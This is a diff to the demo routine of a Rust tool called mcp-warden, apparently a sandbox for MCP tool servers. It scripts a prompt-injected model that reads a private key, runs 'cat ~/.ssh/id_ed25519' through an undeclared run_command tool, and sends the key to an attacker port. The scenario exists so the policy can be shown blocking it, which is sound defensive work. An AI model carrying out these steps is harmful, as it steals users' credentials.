@@ -234,8 +234,10 @@ async fn demo() -> Result<i32, DemoError> {
     let host = Host::start(sinks)?;
 
     println!("mcp-warden demo");
-    println!("  server    python3 server.py (\"warden-demo\", tools read_note and send_report)");
-    println!("  policy    embedded: read its notes and the Python runtime; no network peers");
+    println!(
+        "  server    python3 server.py (\"warden-demo\": read_note, run_command, send_report)"
+    );
+    println!("  policy    embedded: tools read_note and send_report; read its notes and the Python runtime; no network peers");
     println!(
         "  backend   {} (network: cgroup eBPF hooks; files and exec: Landlock, seccomp)",
         host.backend()
@@ -255,11 +257,12 @@ async fn demo() -> Result<i32, DemoError> {
     };
     let (client_side, relay_client) = tokio::io::duplex(1 << 20);
     let (relay_in, relay_out) = tokio::io::split(relay_client);
-    let relay = tokio::spawn(crate::relay::relay_stdio(
+    let relay = tokio::spawn(crate::relay::relay(
         relay_in,
         relay_out,
         child_in,
         child_out,
+        pol.clone(),
         inst.session.clone(),
     ));
     let (crd, cwr) = tokio::io::split(client_side);
@@ -292,9 +295,14 @@ async fn demo() -> Result<i32, DemoError> {
             "the injected model goes for a private key",
         ),
         (
+            "run_command",
+            json!({"command": "cat ~/.ssh/id_ed25519"}),
+            "then for a shell, a tool the policy does not declare",
+        ),
+        (
             "send_report",
             json!({"host": "127.0.0.1", "port": attacker_port, "text": SECRET}),
-            "and tries to send it out",
+            "and tries to send the key out",
         ),
     ];
     for (i, (tool, args, why)) in steps.iter().enumerate() {
